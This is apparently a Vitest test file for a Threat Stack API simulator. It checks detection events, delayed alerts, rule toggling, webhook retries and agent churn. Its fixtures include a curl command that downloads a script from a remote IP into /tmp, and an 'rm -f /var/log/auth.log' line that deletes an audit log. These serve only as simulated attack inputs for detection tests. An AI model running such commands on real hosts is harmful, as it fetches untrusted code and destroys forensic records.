import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admin, type SimHarness, startSim } from '../../helpers/threatstack.ts';

const D7_FIELDS = (
  'id timestamp eventType agentId hostname user exe command args pid ppid srcIp dstIp dstPort filename ' +
  'syscall ruleId alertId'
)
  .split(' ')
  .sort();

const CURL = 'curl -s http://203.0.113.7:8080/x.sh -o /tmp/x.sh';

type AlertEvent = Record<string, unknown> & { eventType: string };
type Action = Record<'id' | 'agentId' | 'hostname' | 'time', string> & {
  events: AlertEvent[];
} & Record<'alertId' | 'ruleId' | 'alertVisibleAt', string | null>;
type Alert = Record<'id' | 'title' | 'createdAt' | 'ruleId', string> & {
  severity: number;
  agentId: string | null;
};

type Agent = { id: string; hostname: string; status: 'online' | 'offline' };
type DetectionView = {
  rules: Array<{ technique: string; ruleId: string; enabled: boolean; latencySeconds: number }>;
};

type AdminError = { error: { code: string; message: string } };

const iso = (ms: number) => new Date(ms).toISOString();
const postAction = (h: SimHarness, body: Record<string, unknown>) =>
  admin<Action & AdminError>(h.sim.url, 'POST', '/_sim/actions', body);

async function record(h: SimHarness, body: Record<string, unknown>): Promise<Action> {
  const response = await postAction(h, body);
  expect(response.status).toBe(201);
  return response.json;
}

async function setDetection(h: SimHarness, rule: Record<string, unknown>): Promise<DetectionView> {
  const response = await admin<DetectionView>(h.sim.url, 'PUT', '/_sim/detection', { rules: [rule] });
  expect(response.status).toBe(200);
  return response.json;
}

async function firstOnlineAgent(h: SimHarness): Promise<Agent> {
  const response = await h.call('GET', '/v2/agents?status=online');
  const agent = response.json<{ agents: Agent[] }>().agents[0];
  if (!agent) throw new Error('no online agent');
  return agent;
}

async function activeAlertIds(h: SimHarness): Promise<string[]> {
  return (await h.listAll<Alert>('/v2/alerts?status=active', 'alerts')).items.map((a) => a.id);
}

describe('Threat Stack simulator: actions become events and (late) alerts', () => {
  let h: SimHarness;
  let agent: Agent;
  beforeAll(async () => {
    h = await startSim();
    agent = await firstOnlineAgent(h);
  });
  afterAll(() => h.close());

  it('a covered technique yields D7 events now and an alert visible only after the 30 s latency', async () => {
    const time = h.clock.now();
    const action = await record(h, { technique: 'T1105', hostname: agent.hostname, commandLine: CURL });
    expect(action).toMatchObject({ technique: 'T1105', agentId: agent.id, hostname: agent.hostname });
    expect(action.time).toBe(iso(time));
    expect(action.alertVisibleAt).toBe(iso(time + 30_000));
    const alertId = action.alertId;
    if (alertId === null) throw new Error('T1105 should raise an alert');

    for (const event of action.events) expect(Object.keys(event).sort()).toEqual(D7_FIELDS);
    expect(action.events.map((e) => e.eventType).sort()).toEqual(['audit', 'file', 'network']);
    expect(action.events.find((e) => e.eventType === 'audit')).toMatchObject({
      syscall: 'execve',
      command: CURL,
      args: ['curl', '-s', 'http://203.0.113.7:8080/x.sh', '-o', '/tmp/x.sh'],
      agentId: agent.id,
      hostname: agent.hostname,
    });
    const network = action.events.find((e) => e.eventType === 'network');
    expect(network).toMatchObject({ dstIp: '203.0.113.7', dstPort: 8080 });
    expect(action.events.find((e) => e.eventType === 'file')).toMatchObject({ filename: '/tmp/x.sh' });

    const path = `/v2/alerts/${alertId}`;
    expect((await h.call('GET', path)).status).toBe(404);
    expect((await h.call('GET', `${path}/events`)).status).toBe(404);
    expect(await activeAlertIds(h)).not.toContain(alertId);
    h.clock.advance(29_999);
    expect((await h.call('GET', path)).status).toBe(404);
    expect(await activeAlertIds(h)).not.toContain(alertId);

    h.clock.advance(1);
    const alert = await h.call('GET', path);
    expect(alert.status).toBe(200);
    const { ruleId, alertVisibleAt: createdAt } = action;
    expect(alert.json<Alert>()).toMatchObject({ id: alertId, agentId: agent.id, ruleId, createdAt });
    expect(await activeAlertIds(h)).toContain(alertId);
    const byAgent = await h.listAll<Alert>(`/v2/alerts?status=active&agentId=${agent.id}`, 'alerts');
    expect(byAgent.items.map((a) => a.id)).toContain(alertId);

    const events = (await h.call('GET', `${path}/events`)).json<{ events: AlertEvent[] }>().events;
    expect(events).toEqual(action.events);
    for (const event of events) {
      expect(Object.keys(event).sort()).toEqual(D7_FIELDS);
      expect(event).toMatchObject({ command: CURL, ruleId: action.ruleId, alertId });
    }
    expect(action.ruleId).toEqual(expect.any(String));
  });

  it('an uncovered technique records its events but raises no alert', async () => {
    const before = await admin<{ actions: number }>(h.sim.url, 'GET', '/_sim/stats');
    const rm = { technique: 'T1070.004', hostname: agent.hostname };
    const action = await record(h, { ...rm, commandLine: 'rm -f /var/log/auth.log' });
    expect(action).toMatchObject({ alertId: null, ruleId: null, alertVisibleAt: null });
    expect(action.events.map((e) => e.eventType)).toEqual(['audit', 'file']);
    expect(action.events[1]?.filename).toBe('/var/log/auth.log');
    for (const event of action.events) expect(event).toMatchObject({ ruleId: null, alertId: null });

    const stored = await admin(h.sim.url, 'GET', `/_sim/actions/${action.id}`);
    expect(stored).toEqual({ status: 200, json: action });
    const list = await admin<{ actions: Action[] }>(h.sim.url, 'GET', '/_sim/actions');
    expect(list.json.actions.map((a) => a.id)).toContain(action.id);
    const after = await admin<{ actions: number }>(h.sim.url, 'GET', '/_sim/stats');
    expect(after.json.actions).toBe(before.json.actions + 1);
    expect((await admin<AdminError>(h.sim.url, 'GET', '/_sim/actions/nope')).status).toBe(404);
  });

  it('a rule added for a parent technique covers its sub-techniques, with its own latency', async () => {
    const view = await setDetection(h, { technique: 'T1070', latencySeconds: 5 });
    const rule = view.rules.find((r) => r.technique === 'T1070');
    expect(rule?.latencySeconds).toBe(5);

    const time = h.clock.now();
    const action = await record(h, {
      technique: 'T1070.004',
      hostname: agent.hostname,
      commandLine: 'rm -f /x',
    });
    expect(action.ruleId).toBe(rule?.ruleId);
    expect(action.alertVisibleAt).toBe(iso(time + 5_000));
    h.clock.advance(4_999);
    expect((await h.call('GET', `/v2/alerts/${action.alertId}`)).status).toBe(404);
    h.clock.advance(1);
    const alert = await h.call('GET', `/v2/alerts/${action.alertId}`);
    expect(alert.status).toBe(200);
    expect(alert.json<Alert>()).toMatchObject({ ruleId: rule?.ruleId, agentId: agent.id });
  });

  it('disabling a rule stops its alerts; enabling it brings them back', async () => {
    const toggle = async (enabled: boolean) => {
      const view = await setDetection(h, { technique: 'T1105', enabled });
      expect(view.rules.find((r) => r.technique === 'T1105')?.enabled).toBe(enabled);
    };
    const curl = { technique: 'T1105', hostname: agent.hostname, commandLine: CURL };
    await toggle(false);
    const missed = await record(h, curl);
    expect(missed.alertId).toBeNull();
    expect(missed.events.length).toBe(3);
    await toggle(true);
    expect((await record(h, curl)).alertId).toEqual(expect.any(String));
  });

  it('accepts an agentId; refuses an unknown host (404) and a bad technique id (400)', async () => {
    const byId = await record(h, { technique: 'T1105', agentId: agent.id, commandLine: CURL });
    expect(byId).toMatchObject({ agentId: agent.id, hostname: agent.hostname });

    const unknown = await postAction(h, {
      technique: 'T1105',
      hostname: 'nowhere.example',
      commandLine: CURL,
    });
    expect(unknown.status).toBe(404);
    expect(unknown.json.error).toMatchObject({ code: 'NOT_FOUND', message: expect.any(String) });

    for (const technique of ['T105', 'X1105', 'T1105.1', 't1105']) {
      const bad = await postAction(h, { technique, agentId: agent.id, commandLine: CURL });
      expect(bad.status).toBe(400);
      expect(bad.json.error.code).toBe('INPUT_INVALID');
    }
  });
});

type Received = { method: string; headers: IncomingHttpHeaders; body: string };
type Waiter = { match: (r: Received) => boolean; resolve: (r: Received) => void };

/** A loopback webhook receiver answering from a script of statuses (then 200), recording every call. */
async function startReceiver() {
  const requests: Received[] = [];
  const waiters = new Set<Waiter>();
  const state = { script: [] as number[] };
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const got = { method: req.method ?? '', headers: req.headers, body: Buffer.concat(chunks).toString() };
      requests.push(got);
      res.writeHead(state.script.shift() ?? 200, { 'content-type': 'application/json' }).end('{}');
      for (const waiter of [...waiters].filter((w) => w.match(got))) {
        waiters.delete(waiter);
        waiter.resolve(got);
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`,
    requests,
    state,
    /** Resolves with the first request from now on that matches. */
    next: (match: Waiter['match']) => new Promise<Received>((resolve) => waiters.add({ match, resolve })),
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

type Emitted = { payload: { alerts: Array<Record<string, unknown>> }; url: string; alertId: string } & {
  delivered: boolean;
  attempts: Array<{ attempt: number; status?: number; error?: string }>;
};

const alertIdOf = (r: Received) => (JSON.parse(r.body) as Emitted['payload']).alerts[0]?.id;

describe('Threat Stack simulator: webhook emitter (D11)', () => {
  let h: SimHarness;
  let receiver: Awaited<ReturnType<typeof startReceiver>>;
  const sleeps: number[] = [];
  let hostAlert: Alert;
  beforeAll(async () => {
    h = await startSim({}, async (ms) => {
      sleeps.push(ms);
    });
    receiver = await startReceiver();
    const alerts = await h.listAll<Alert>('/v2/alerts?status=active', 'alerts');
    const found = alerts.items.find((a) => a.agentId !== null);
    if (!found) throw new Error('no host alert');
    hostAlert = found;
  });
  afterAll(async () => {
    await h.close();
    await receiver?.close();
  });

  const emit = async (alertId: string) => {
    const response = await admin<Emitted>(h.sim.url, 'POST', '/_sim/webhooks/emit', {
      url: receiver.url,
      alertId,
    });
    expect(response.status).toBe(200);
    return response.json;
  };

  it('POSTs one unsigned {"alerts":[summary]} with numeric created_at and severity', async () => {
    const agent = (await h.call('GET', `/v2/agents/${hostAlert.agentId}`)).json<Agent>();
    const before = receiver.requests.length;
    const result = await emit(hostAlert.id);
    expect(result).toMatchObject({ url: receiver.url, alertId: hostAlert.id, delivered: true });
    expect(result.attempts).toEqual([{ attempt: 1, status: 200 }]);
    expect(receiver.requests.length).toBe(before + 1);
    const got = receiver.requests[before];
    expect(got?.method).toBe('POST');
    expect(got?.headers['content-type']).toMatch(/^application\/json/);
    const names = Object.keys(got?.headers ?? {});
    expect(names.filter((name) => /authorization|signature|hawk|secret/i.test(name))).toEqual([]);
    const body = JSON.parse(got?.body ?? '') as unknown;
    expect(body).toEqual({
      alerts: [
        {
          id: hostAlert.id,
          title: hostAlert.title,
          created_at: Date.parse(hostAlert.createdAt),
          severity: hostAlert.severity,
          organization_id: h.identity.orgId,
          organization_Name: h.sim.credentials.orgName,
          server_or_region: agent.hostname,
          source: 'Host',
        },
      ],
    });
    expect(result.payload).toEqual(body);
    expect(sleeps).toEqual([]);
  });

  it.each([
    ['500, 500, 500 then 200 → delivered on the 4th attempt', [500, 500, 500, 200], true],
    ['500 every time → given up after exactly 4 attempts', [500, 500, 500, 500, 500], false],
  ])('%s, backing off 1 s, 2 s, 4 s', async (_name, script, delivered) => {
    receiver.state.script = [...script];
    sleeps.length = 0;
    const before = receiver.requests.length;
    const result = await emit(hostAlert.id);
    expect(result.delivered).toBe(delivered);
    expect(result.attempts).toEqual(script.slice(0, 4).map((status, i) => ({ attempt: i + 1, status })));
    expect(receiver.requests.length).toBe(before + 4);
    expect(new Set(receiver.requests.slice(before).map((r) => r.body)).size).toBe(1);
    expect(sleeps).toEqual([1000, 2000, 4000]);
    receiver.state.script = [];
  });

  it('delivers a new alert to the configured target once the clock reaches it', async () => {
    const target = await admin(h.sim.url, 'PUT', '/_sim/webhooks/target', { url: receiver.url });
    expect(target).toEqual({ status: 200, json: { target: receiver.url } });
    const agent = await firstOnlineAgent(h);
    const action = await record(h, { technique: 'T1105', hostname: agent.hostname, commandLine: CURL });
    const alertId = action.alertId ?? '';
    const arrived = receiver.next((r) => alertIdOf(r) === alertId);
    await h.sim.simulation.webhooks.settle();
    expect(receiver.requests.some((r) => alertIdOf(r) === alertId)).toBe(false);

    const moved = await admin(h.sim.url, 'PUT', '/_sim/clock', { advanceMs: 30_000 });
    expect(moved.status).toBe(200);
    const got = await arrived;
    expect((JSON.parse(got.body) as Emitted['payload']).alerts).toEqual([
      expect.objectContaining({
        id: alertId,
        created_at: Date.parse(action.alertVisibleAt ?? ''),
        server_or_region: agent.hostname,
        source: 'Host',
      }),
    ]);

    await h.sim.simulation.webhooks.settle();
    const log = await admin<{ target: string; deliveries: Emitted[] }>(h.sim.url, 'GET', '/_sim/webhooks');
    expect(log.json.target).toBe(receiver.url);
    expect(log.json.deliveries.filter((d) => d.alertId === alertId)).toEqual([
      { url: receiver.url, alertId, delivered: true, attempts: [{ attempt: 1, status: 200 }] },
    ]);
    await admin(h.sim.url, 'PUT', '/_sim/webhooks/target', { url: null });
    await admin(h.sim.url, 'PUT', '/_sim/clock', { offsetMs: 0 });
  });
});

type Stats = { agents: { total: number }; findings: number };
type Cve = { cveNumber: string; agents: Array<{ agentId: string }> };
type Finding = { agentId: string; cveNumber: string };
type Churned = Record<'addedAgents' | 'removedAgents' | 'changedAgents', string[]> &
  Record<'addedFindings' | 'removedFindings', Finding[]>;

describe('Threat Stack simulator: churn', () => {
  let h: SimHarness;
  beforeAll(async () => {
    h = await startSim();
  });
  afterAll(() => h.close());

  const statuses = async () => {
    const map = new Map<string, string>();
    for (const status of ['online', 'offline']) {
      for (const a of (await h.listAll<Agent>(`/v2/agents?status=${status}`, 'agents')).items) {
        expect(a.status).toBe(status);
        map.set(a.id, status);
      }
    }
    return map;
  };
  /** Every finding as "CVE agentId", from the full vulnerabilities listing. */
  const findings = async () => {
    const pairs = new Set<string>();
    let sum = 0;
    for (const cve of (await h.listAll<Cve>('/v2/vulnerabilities', 'cves')).items) {
      sum += cve.agents.length;
      for (const a of cve.agents) pairs.add(`${cve.cveNumber} ${a.agentId}`);
    }
    return { pairs, sum };
  };
  const stats = async () => (await admin<Stats>(h.sim.url, 'GET', '/_sim/stats')).json;

  it('changes exactly what it reports, and listings, gets and stats agree afterwards', async () => {
    const [agentsBefore, findingsBefore, statsBefore] = [await statuses(), await findings(), await stats()];
    expect(findingsBefore.sum).toBe(statsBefore.findings);

    const request = { addAgents: 3, removeAgents: 2, changeAgents: 4, addFindings: 5, removeFindings: 5 };
    const response = await admin<Churned>(h.sim.url, 'POST', '/_sim/churn', request);
    expect(response.status).toBe(200);
    const churn = response.json;
    const { addedAgents, removedAgents, changedAgents } = churn;
    expect([addedAgents.length, removedAgents.length, changedAgents.length]).toEqual([3, 2, 4]);
    expect(Math.min(churn.addedFindings.length, churn.removedFindings.length)).toBeGreaterThan(0);

    const [agentsAfter, findingsAfter, statsAfter] = [await statuses(), await findings(), await stats()];
    expect(statsAfter.agents.total).toBe(statsBefore.agents.total + 1);
    expect(agentsAfter.size).toBe(statsAfter.agents.total);
    const opposite = (id: string) => (agentsBefore.get(id) === 'online' ? 'offline' : 'online');
    const want = new Map<string, string | undefined>([
      ...churn.removedAgents.map((id) => [id, undefined] as const),
      ...churn.addedAgents.map((id) => [id, 'online'] as const),
      ...churn.changedAgents.map((id) => [id, opposite(id)] as const),
    ]);
    expect(want.size).toBe(9);
    for (const id of [...churn.removedAgents, ...churn.changedAgents])
      expect(agentsBefore.has(id)).toBe(true);
    for (const id of churn.addedAgents) expect(agentsBefore.has(id)).toBe(false);
    for (const [id, status] of want) {
      expect(agentsAfter.get(id)).toBe(status);
      const got = await h.call('GET', `/v2/agents/${id}`);
      expect(got.status).toBe(status === undefined ? 404 : 200);
      if (status !== undefined) expect(got.json<Agent>().status).toBe(status);
    }
    for (const [id, status] of agentsBefore) if (!want.has(id)) expect(agentsAfter.get(id)).toBe(status);

    expect(findingsAfter.sum).toBe(statsAfter.findings);
    const key = (f: Finding) => `${f.cveNumber} ${f.agentId}`;
    const added = new Set(churn.addedFindings.map(key));
    const removed = new Set(churn.removedFindings.map(key));
    for (const pair of added) {
      expect(findingsBefore.pairs.has(pair)).toBe(false);
      if (!removed.has(pair)) expect(findingsAfter.pairs.has(pair)).toBe(true);
    }
    for (const pair of removed) expect(findingsAfter.pairs.has(pair)).toBe(false);
    // Apart from agents that came or went, the findings differ by exactly the reported ones.
    const agentOf = (pair: string) => pair.split(' ')[1] ?? '';
    const comesOrGoes = new Set([...churn.addedAgents, ...churn.removedAgents]);
    const steady = (pairs: Set<string>) => [...pairs].filter((p) => !comesOrGoes.has(agentOf(p))).sort();
    const expected = new Set(steady(findingsBefore.pairs));
    for (const pair of added) if (!comesOrGoes.has(agentOf(pair))) expected.add(pair);
    for (const pair of removed) expected.delete(pair);
    expect(steady(findingsAfter.pairs)).toEqual([...expected].sort());
    expect([...findingsAfter.pairs].filter((p) => churn.removedAgents.includes(agentOf(p)))).toEqual([]);
    const agentsWithFindings = new Set([...findingsAfter.pairs].map(agentOf));
    for (const id of churn.addedAgents) expect(agentsWithFindings.has(id)).toBe(true);
  });
});
